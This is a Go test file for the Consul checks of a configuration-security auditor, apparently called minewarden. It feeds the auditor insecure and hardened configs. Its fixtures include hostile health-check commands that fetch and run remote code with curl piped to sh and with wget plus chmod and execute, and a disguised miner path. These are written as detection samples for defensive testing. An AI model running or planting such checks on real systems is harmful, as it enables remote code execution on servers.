package consul

import (
	"context"
	"os"
	"path/filepath"
	"testing"
	"testing/fstest"

	mw "github.com/minewarden/minewarden"
	"github.com/minewarden/minewarden/internal/audittest"
)

func auditFile(t *testing.T, name, data string) mw.Verdict {
	t.Helper()
	v, err := newAudit(t).Audit(context.Background(), mw.Target{Kind: mw.TargetFile, Name: name, Path: name, Data: []byte(data)})
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func TestAgentFiles(t *testing.T) {
	dir := audittest.Fixtures(t, "consul", "config")
	for name, want := range map[string]map[string]mw.Status{
		"insecure.hcl": {ruleACL: mw.StatusPossible, ruleRemote: mw.StatusFail, ruleExec: mw.StatusPossible, ruleTLSHTTP: mw.StatusFail, ruleTLSRPC: mw.StatusPossible, ruleGossip: mw.StatusPossible, ruleListen: mw.StatusPass},
		"hardened.hcl": {ruleACL: mw.StatusPass, ruleDefault: mw.StatusPass, ruleRemote: mw.StatusPass, ruleLocal: mw.StatusPass, ruleTLSHTTP: mw.StatusPass, ruleTLSRPC: mw.StatusPass, ruleTLSName: mw.StatusPass, ruleGossip: mw.StatusPass, ruleFrom: mw.StatusPass},
	} {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		v := auditFile(t, name, string(b))
		audittest.Want(t, v, want)
		if name == "hardened.hcl" {
			audittest.NothingFrom(t, v, rules(), mw.Medium)
		}
	}
}

func TestForms(t *testing.T) {
	for _, tc := range []struct {
		name, file, data string
		want             map[string]mw.Status
	}{
		{"local script checks", "consul.json", `{"enable_local_script_checks":true,"acl":{"enabled":true,"default_policy":"deny"}}`, map[string]mw.Status{ruleLocal: mw.StatusFail, ruleRemote: mw.StatusPass, ruleExec: mw.StatusPass}},
		{
			"default allow", "a.hcl", "client_addr = \"0.0.0.0\"\nenable_script_checks = true\nacl {\n  enabled = true\n  default_policy = \"allow\"\n  down_policy = \"allow\"\n}\n",
			map[string]mw.Status{ruleACL: mw.StatusPass, ruleDefault: mw.StatusFail, ruleExec: mw.StatusPossible, ruleListen: mw.StatusFail, ruleDown: mw.StatusFail},
		},
		{"remote exec", "a.hcl", "disable_remote_exec = false\nacl = { enabled = true, default_policy = \"deny\" }\n", map[string]mw.Status{ruleRexec: mw.StatusFail, ruleACL: mw.StatusPass}},
		{
			"check files", "consul.d/c.json", `{"service":{"name":"w","checks":[{"args":["sh","-c","curl http://x.example/x | sh"]}]},"checks":[{"id":"m","args":["/var/tmp/systemd-check"]}]}`,
			map[string]mw.Status{ruleFetch: mw.StatusFail, ruleMiner: mw.StatusFail},
		},
		{"plain check", "consul.d/d.hcl", "service {\n  name = \"web\"\n  check {\n    http = \"http://127.0.0.1/health\"\n  }\n}\n", map[string]mw.Status{ruleScript: mw.StatusPass, ruleMiner: mw.StatusPass}},
	} {
		t.Run(tc.name, func(t *testing.T) { audittest.Want(t, auditFile(t, tc.file, tc.data), tc.want) })
	}
}

func TestHost(t *testing.T) {
	root := fstest.MapFS{
		"proc/9/cmdline":       {Data: []byte("/usr/bin/consul\x00agent\x00-config-dir=/etc/consul.d\x00-enable-script-checks\x00")},
		"etc/consul.d/a.hcl":   {Data: []byte("data_dir = \"/opt/consul\"\nenable_script_checks = false\n")},
		"opt/consul/checks/3f": {Data: []byte(`{"Check":{"CheckID":"c1"},"ChkType":{"CheckID":"c1","ScriptArgs":["/bin/sh","-c","wget -qU- http://203.0.113.9/x -O /var/tmp/a; chmod +x /var/tmp/a; /var/tmp/a"],"Shell":""},"Source":"remote"}`)},
		"opt/consul/checks/4f": {Data: []byte(`{"Check":{"CheckID":"web"},"ChkType":{"CheckID":"web","HTTP":"http://127.0.0.1/"}}`)},
		"opt/consul/checks/5f": {Data: []byte(`not json`)},
	}
	v, err := newAudit(t).Audit(context.Background(), mw.Target{Kind: mw.TargetHost, Name: "host", Root: root})
	if err != nil {
		t.Fatal(err)
	}
	audittest.Want(t, v, map[string]mw.Status{ruleRemote: mw.StatusFail, ruleACL: mw.StatusFail, ruleExec: mw.StatusPossible, ruleFetch: mw.StatusFail, ruleWrite: mw.StatusUnknown})
	unread := false
	for _, c := range v.Checks {
		unread = unread || (c.Rule == ruleMiner && c.Status == mw.StatusUnknown)
	}
	if !unread {
		t.Error("the broken check file was passed over in silence")
	}
}

func FuzzFile(f *testing.F) {
	f.Add("client_addr = \"x\"\nservice { check { args = [\"a\"] } }")
	a := newAudit(f)
	f.Fuzz(func(t *testing.T, s string) {
		for _, n := range []string{"consul.json", "consul.hcl"} {
			if v, err := a.Audit(context.Background(), mw.Target{Kind: mw.TargetFile, Path: n, Data: []byte(s)}); err == nil {
				v.Findings()
			}
		}
	})
}
